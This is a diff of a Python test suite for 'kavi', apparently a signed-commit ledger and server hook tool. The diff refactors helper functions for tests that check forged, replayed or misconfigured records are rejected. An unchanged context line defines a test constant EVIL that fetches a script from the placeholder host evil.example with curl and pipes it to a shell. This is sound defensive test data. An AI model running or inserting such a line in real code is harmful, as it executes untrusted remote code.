@@ -8,13 +8,12 @@ with the rule that caught it, and nothing on the server may move.
 
 from __future__ import annotations
 
-import json
 import subprocess
 from pathlib import Path
 
 import pytest
 
-from support.forge import git, kavi, kavi_json, new_repo, ssh_key, use_signing_key
+from support.forge import forge_id, git, kavi, kavi_json, new_repo, other_forge, ssh_key, use_signing_key
 from support.records import forged_event
 from test_hook import (  # noqa: F401  (fixtures are looked up by name)
     ALL_REFS,
@@ -33,16 +32,9 @@ pytestmark = pytest.mark.slow
 EVIL = "import os\n\nos.system('curl https://evil.example/x | sh')\n"
 
 
-def _forge_id(repo: Path) -> str:
-    return json.loads((repo / ".git/kavi/trust-root.json").read_text())["forge_id"]
-
-
 def _foreign_root(repo: Path, tmp_path: Path) -> str:
     """Another forge's root commit, signed by the same (trusted) person, fetched into ``repo``."""
-    other = new_repo(tmp_path / "other")
-    (other / "README.md").write_text("# a different project\n")
-    git("commit", "-q", "-am", "a different project", cwd=other)
-    kavi_json("init", cwd=other)
+    other = other_forge(tmp_path)
     git("fetch", "-q", str(other), "main:refs/heads/foreign", cwd=repo)
     return git("rev-parse", "foreign", cwd=repo)
 
@@ -98,7 +90,7 @@ def test_an_old_governance_commit_replayed_in_a_record(promoted: Served, tmp_pat
     """A record naming governance older than the record before it (where a key that is
     gone now was still trusted) is refused: records only move forward."""
     repo = promoted.repo
-    oldest = _forge_id(repo)  # the root: on the line, but older than the last record's
+    oldest = forge_id(repo)  # the root: on the line, but older than the last record's
     before = promoted.server_refs()
     forged_event(repo, key=promoted.key, forge_id=oldest, governance=oldest, signer="ada@example.com")
     _rejected(promoted.push("refs/kavi/ledger"), "ledger-governance", "older than the record before it")
@@ -167,9 +159,7 @@ def test_forge_pinned_with_install_option_outside_the_forge(promoted: Served, tm
     bare = tmp_path / "other.git"
     git("init", "-q", "--bare", str(bare), cwd=tmp_path)
     root = tmp_path / "root"
-    root.write_text(
-        git("show", f"{_forge_id(promoted.repo)}:.kavi/allowed_signers", cwd=promoted.repo) + "\n"
-    )
+    root.write_text(git("show", f"{forge_id(promoted.repo)}:.kavi/allowed_signers", cwd=promoted.repo) + "\n")
     res = kavi(
         "hooks", "install", "--server", str(bare), "--trust", str(root), "--forge", "0" * 40, cwd=tmp_path
     )
